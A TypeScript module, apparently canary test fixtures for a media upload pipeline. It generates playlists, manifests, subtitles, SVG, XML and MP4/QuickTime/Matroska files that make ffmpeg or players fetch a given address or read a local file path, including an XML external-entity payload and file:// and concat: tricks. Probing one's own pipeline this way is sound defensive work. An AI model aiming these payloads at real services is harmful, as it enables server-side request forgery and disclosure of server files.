/** Uploads that refer to other addresses and files, each in its own way. */

/** What an upload may try to reach: an address, and the path of a file. */
export interface Canary {
  readonly url: string;
  readonly path: string;
}

/** Texts that players, or ffmpeg where it is told nothing else, follow to other places. */
export function referringTexts({ url, path }: Canary): Record<string, string> {
  const hls = (target: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n${target}\n#EXT-X-ENDLIST\n`;
  return {
    "HLS playlist": hls(`${url}/segment.ts`),
    "HLS playlist of a file": hls(`file://${path}`),
    "HLS playlist of a file as a nested protocol": hls(`concat:${url}/head|subfile,,start,0,end,9,,:${path}`),
    "HLS key": `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:2,\n${path}\n#EXT-X-ENDLIST\n`,
    "HLS main playlist": `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/variant.m3u8\n`,
    "HLS playlist behind a byte order mark": `\uFEFF${hls(`${url}/segment.ts`)}`,
    "DASH manifest": `<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1"><BaseURL>${url}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    "ffconcat script": `ffconcat version 1.0\nfile ${path}\n`,
    "ffconcat script of an address": `ffconcat version 1.0\nfile ${url}/concat.mp4\n`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(url).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ASX: `<asx version="3.0"><entry><ref href="${url}/asx.wmv"/></entry></asx>`,
    "ASF reference": `[Reference]\r\nRef1=${url}/ref.wmv?MSWMExt=.asf\r\n`,
    PLS: `[playlist]\nFile1=${url}/pls.mp4\nNumberOfEntries=1\n`,
    SMIL: `<smil><body><video src="${url}/smil.mp4"/></body></smil>`,
    "IMF composition": `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><SegmentList><Segment><Resource>${url}</Resource></Segment></SegmentList></CompositionPlaylist>`,
    "SVG image": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="${url}/image.png" width="64" height="64"/><image xlink:href="file://${path}" width="64" height="64"/></svg>`,
    "XML with an external entity": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url}/entity">]><MPD>&e;</MPD>`,
    ffmetadata: `;FFMETADATA1\ntitle=${url}\n`,
    "TED captions": `{"captions":[{"duration":1000,"content":"${url}","startOfParagraph":true,"startTime":0}]}`,
    "VobSub index": `# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
    "SubRip subtitles": `1\n00:00:00,000 --> 00:00:02,000\n<img src="${url}">\n\n`,
    "RTSP reference": `RTSPtextRTSP://${new URL(url).host}/stream\r\n`,
    "image sequence": `${path}%03d.png\n`,
    "AviSynth script": `FFVideoSource("${path}")\n`,
    "filter graph": `movie=${path}\n`,
    "WebM DASH cues": `http://${new URL(url).host}/cues.webm\n`,
  };
}

const atom = (type: string, ...content: Buffer[]): Buffer => {
  const body = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, body]);
};
const zeros = (count: number) => Buffer.alloc(count);

/** A movie that says where the real one is. QuickTime File Format, "Reference Movie Atoms". */
export function referenceMovie({ url }: Canary): Buffer {
  const address = Buffer.from(`${url}/reference.mov\0`);
  const length = zeros(4);
  length.writeUInt32BE(address.length);
  return atom(
    "moov",
    atom("rmra", atom("rmda", atom("rdrf", zeros(4), Buffer.from("url "), length, address))),
  );
}

/** An MP4 (its index at the end) whose tracks are in another file: by a URL, or by a Macintosh alias to a path. */
export function movieElsewhere(mp4: Buffer, { url, path }: Canary, by: "url" | "alias"): Buffer {
  const entry = by === "url" ? atom("url ", zeros(4), Buffer.from(`${url}/track.mp4\0`)) : alias(path);
  const references = atom("dref", zeros(4), Buffer.from([0, 0, 0, 1]), entry);
  return Buffer.concat(rewritten(mp4, (type) => (type === "dref" ? references : undefined)));
}

/** An alias record: names at fixed places, then tagged fields, of which 2 is the absolute path. */
function alias(path: string): Buffer {
  const name = Buffer.from(path);
  const tagged = Buffer.concat([zeros(4), name, zeros(name.length % 2), Buffer.from([0xff, 0xff, 0, 0])]);
  tagged.writeUInt16BE(2, 0);
  tagged.writeUInt16BE(name.length, 2);
  return atom("alis", zeros(4), zeros(150), tagged);
}

const parents = ["moov", "trak", "mdia", "minf", "dinf"];

function rewritten(atoms: Buffer, replace: (type: string) => Buffer | undefined): Buffer[] {
  const pieces: Buffer[] = [];
  for (let position = 0; position < atoms.length;) {
    const size = atoms.readUInt32BE(position);
    const type = atoms.toString("latin1", position + 4, position + 8);
    const whole = atoms.subarray(position, position + size);
    const inner = () => atom(type, ...rewritten(whole.subarray(8), replace));
    pieces.push(replace(type) ?? (parents.includes(type) ? inner() : whole));
    position += size;
  }
  return pieces;
}

/** A Matroska file that names the file that comes before it and the one that comes after it (RFC 9559, 5.1.2). */
export function linkedMatroska({ path }: Canary): Buffer {
  const element = (id: string, content: Buffer) => {
    const size = zeros(2);
    size.writeUInt16BE(0x4000 | content.length);
    return Buffer.concat([Buffer.from(id, "hex"), size, content]);
  };
  const names = ["3c83ab", "3e83bb"].map((id) => element(id, Buffer.from(path)));
  const ids = ["3cb923", "3eb923"].map((id) => element(id, Buffer.alloc(16, 1)));
  const header = element("1a45dfa3", element("4282", Buffer.from("matroska")));
  return Buffer.concat([header, element("18538067", element("1549a966", Buffer.concat([...names, ...ids])))]);
}
